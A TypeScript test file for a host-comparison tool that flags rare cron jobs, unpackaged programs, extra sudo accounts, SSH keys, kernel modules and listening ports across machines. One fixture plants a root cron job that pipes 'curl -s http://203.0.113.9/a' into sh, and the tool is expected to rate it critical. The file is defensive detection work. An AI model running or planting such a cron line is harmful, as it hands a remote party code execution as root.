import { describe, expect, it } from 'vitest';
import { MemoryTree, type MemoryFile } from '../../../../tests/support/memory-tree.ts';
import { LiveHost } from '../proc/live-host.ts';
import { RecordedProc, type ProcAnswer } from '../proc/recorded-proc.ts';
import { Stack } from './stack.ts';

const accounts = { '/etc/passwd': 'root:x:0:0::/root:/bin/bash\n' };
const backup = { ...accounts, '/etc/cron.d/backup': '0 3 * * * root /usr/local/bin/backup\n' };
const planted = { ...backup, '/etc/cron.d/update': '* * * * * root curl -s http://203.0.113.9/a | sh\n' };

function stackOf(hosts: Readonly<Record<string, Readonly<Record<string, MemoryFile>>>>): Stack {
  const stack = new Stack();
  for (const [name, files] of Object.entries(hosts)) stack.add({ name, tree: new MemoryTree(files) });
  return stack;
}

describe('Stack', () => {
  it('shows what few hosts have, the rarest first, of these the worst', () => {
    const stack = stackOf({ a: backup, b: backup, c: planted, d: accounts });
    const cron = (atMost: number) =>
      stack
        .rows(atMost)
        .filter(({ kind }) => kind === 'cron')
        .map(({ what, hosts }) => [what, hosts.join(' ')]);
    expect(cron(1)).toEqual([['/etc/cron.d/update', 'c']]);
    expect(cron(3)).toEqual([
      ['/etc/cron.d/update', 'c'],
      ['/etc/cron.d/backup', 'a b c'],
    ]);
    expect(stack.rows(1)[0]).toMatchObject({
      severity: 'critical',
      detail: expect.stringContaining('curl -s') as string,
    });
  });

  it('takes the same place with other content for another item, and two bundles of a host for one', () => {
    const other = { ...accounts, '/etc/cron.d/backup': '0 3 * * * root /tmp/backup\n' };
    const stack = stackOf({ a: backup, b: other });
    stack.add({ name: 'a', tree: new MemoryTree(backup) });
    expect(stack.hosts).toEqual(['a', 'b']);
    const jobs = stack.rows(1).filter(({ kind }) => kind === 'cron');
    expect(jobs.map(({ hosts, detail }) => [hosts, detail.includes('/tmp/')])).toEqual([
      [['b'], true],
      [['a'], false],
    ]);
  });

  it('tells a local program, a changed one, an account and a key that one of many has, and weighs that', () => {
    const key = (last: string): string =>
      `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEq0fL1mE6vCQh4f0d7S6h2v1m2m3m4m5m6m7m8m9n${last} ops\n`;
    const program = (content: string) => ({ content, mode: 0o755 });
    const common = {
      ...accounts,
      '/var/lib/dpkg/status': 'Package: a\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n',
      '/var/lib/dpkg/info/a.list': '/usr/bin/a\n',
      '/opt/app/bin/app': program('app'),
      '/root/.ssh/authorized_keys': key('0n'),
    };
    const odd = {
      ...common,
      '/etc/passwd': `${accounts['/etc/passwd']}dba:x:1001:1001::/home/dba:/bin/bash\n`,
      '/etc/group': 'sudo:x:27:dba\n',
      '/usr/local/bin/netmon': program('netmon'),
      '/opt/app/bin/app': program('other'),
      '/root/.ssh/authorized_keys': key('0n') + key('0x'),
    };
    const hosts = Object.fromEntries(Array.from({ length: 11 }, (_none, index) => [`h${index}`, common]));
    const rows = stackOf({ ...hosts, odd }).rows(1);
    expect(rows.map(({ kind, what, severity }) => [kind, what, severity])).toEqual(
      expect.arrayContaining([
        ['account', 'dba', 'low'],
        ['unpackaged-program/local', '/usr/local/bin/netmon', 'low'],
        ['unpackaged-program/local', '/opt/app/bin/app', 'low'],
        ['ssh-keys', '/root/.ssh/authorized_keys', 'low'],
      ]),
    );
    expect(rows.every(({ hosts: having }) => having.join() === 'odd')).toBe(true);
    expect(rows.find(({ what }) => what === 'dba')?.detail).toBe('uid 1001, /bin/bash, in sudo');
    const few = stackOf({ a: common, b: common, odd }).rows(1);
    expect(few.find(({ what }) => what === '/usr/local/bin/netmon')?.severity).toBe('info');
  });

  it('knows which modules of the kernel are loaded', () => {
    const modules = Buffer.from('nfx 16384 0 - Live 0x0 (OE)\next4 9 1 - Live 0x0\n').toString('base64');
    const live = new LiveHost(
      new RecordedProc([
        { path: '.', names: [] },
        { path: 'modules', exists: true, bytes: modules },
      ]),
    );
    const stack = new Stack();
    stack.add({ name: 'a', tree: new MemoryTree(accounts), live });
    const loaded = stack.rows(1).filter(({ kind }) => kind === 'loaded-module');
    expect(loaded.map(({ what, detail }) => `${what} ${detail}`.trim())).toEqual(['ext4', 'nfx (OE)']);
  });

  it('knows what listens', () => {
    const tcp = 'header\n 0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000 0 0 4711 1 0\n';
    const answers: ProcAnswer[] = [
      { path: '.', names: ['7'] },
      { path: '7/stat', bytes: Buffer.from(`7 (app) S 1 7 7 0 -1 0 ${'0 '.repeat(40)}`).toString('base64') },
      { path: '7/exe', link: '/opt/app' },
      { path: '7/fd', names: ['3'] },
      { path: '7/fd/3', link: 'socket:[4711]' },
      { path: '7/net', exists: true },
      { path: '7/net/tcp', bytes: Buffer.from(tcp).toString('base64') },
    ];
    const stack = new Stack();
    stack.add({ name: 'a', tree: new MemoryTree(accounts), live: new LiveHost(new RecordedProc(answers)) });
    expect(stack.rows(1).filter(({ kind }) => kind === 'listening')).toMatchObject([
      { what: 'tcp 8080 /opt/app', detail: '0.0.0.0', hosts: ['a'] },
    ]);
  });
});
